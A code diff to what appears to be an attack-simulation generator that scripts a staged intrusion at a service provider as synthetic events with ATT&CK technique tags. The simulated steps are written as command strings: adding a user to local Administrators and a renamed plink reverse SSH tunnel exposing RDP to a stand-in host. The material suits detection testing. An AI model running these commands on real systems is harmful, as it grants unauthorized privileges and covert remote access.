@@ -1,7 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0
  *
  * The first story at the provider: Monday a technician's workstation, Tuesday the jump host from which customers are
- * looked after, Thursday's small hours (still day 2) what was taken leaves.
+ * looked after, in the small hours of Wednesday what was taken leaves.
  *
  * In: the scene. Out: marked events in its world.
  */
@@ -75,6 +75,8 @@ static struct sp_process entry(struct sp_scene *scene)
     scene->now = sp_world_soon(world, scene->now, 900);
     sp_act_file(world, scene->now, &fetch, TOOL);
     sp_act_end(world, scene->now + SP_TICKS_SECOND, &fetch);
+    sp_act_end(world, scene->now + 130 * SP_TICKS_SECOND, &shell);
+    sp_act_end(world, scene->now + 11 * SP_TICKS_MINUTE, &word);
     return ps;
 }
 
@@ -183,9 +185,9 @@ static void prepare(struct sp_scene *scene, const struct sp_process *shell)
     sp_scene_once(scene, shell, S32 "net.exe", "net.exe localgroup Administrators NORTHMSP\\d.olsen /add");
     sp_act_member(world, scene->now, jump, shell->session, sp_cast.olsen.sid, &sp_cast.administrators);
     sp_scene_step(scene, "tunnel for remote desktops", "T1572");
-    struct sp_process tunnel = sp_scene_run(scene, shell, "C:\\Users\\Public\\pl.exe",
-                                            "pl.exe -ssh -N -R 33890:127.0.0.1:3389 relay@192.0.2.210 -pw x");
-    sp_act_connect(world, scene->now, &tunnel, &(struct sp_peer){ "192.0.2.210", NULL, 443, "https" });
+    scene->tunnel = sp_scene_run(scene, shell, "C:\\Users\\Public\\pl.exe",
+                                 "pl.exe -ssh -N -R 33890:127.0.0.1:3389 relay@192.0.2.210 -pw x");
+    sp_act_connect(world, scene->now, &scene->tunnel, &(struct sp_peer){ "192.0.2.210", NULL, 443, "https" });
     sp_act_end(world, scene->now + 4 * SP_TICKS_SECOND, shell);
 }
 
@@ -198,9 +200,12 @@ void sp_first_provider(struct sp_scene *scene)
     foothold(scene, &ps);
     sp_scene_at(scene, 0, 15, 40);
     take_workstation(scene);
-    scene->now = desk(scene, 1)->since + SP_TICKS_MINUTE;
-    sp_scene_step(scene, "back at the next logon", "T1547.001");
-    scene->tool = sp_scene_run(scene, &desk(scene, 1)->explorer, TOOL, TOOL " -q");
+    for (unsigned day = 2; day >= 1; day--) { /* Tuesday's is the one that goes on */
+        scene->now = desk(scene, day)->since + SP_TICKS_MINUTE;
+        sp_scene_step(scene, "back at every logon", "T1547.001");
+        scene->tool = sp_scene_run(scene, &desk(scene, day)->explorer, TOOL, TOOL " -q");
+        sp_act_end(scene->world, scene->day0 + day * SP_TICKS_DAY + 16 * SP_TICKS_HOUR + 50 * SP_TICKS_MINUTE, &scene->tool);
+    }
     sp_scene_at(scene, 1, 9, 5);
     shell = move(scene);
     prepare(scene, &shell);
@@ -232,4 +237,7 @@ void sp_first_out(struct sp_scene *scene)
     sp_act_end(world, scene->now + SP_TICKS_SECOND, &shell);
     sp_scene_step(scene, "gone", "T1021.001");
     sp_act_desktop_left(world, scene->now, &scene->jump_shell, &scene->jump_logon);
+    scene->now += 5 * SP_TICKS_SECOND;
+    sp_act_end(world, scene->now, &scene->tunnel);
+    sp_act_logoff(world, scene->now + SP_TICKS_SECOND, scene->jump, scene->tunnel.session, 3);
 }
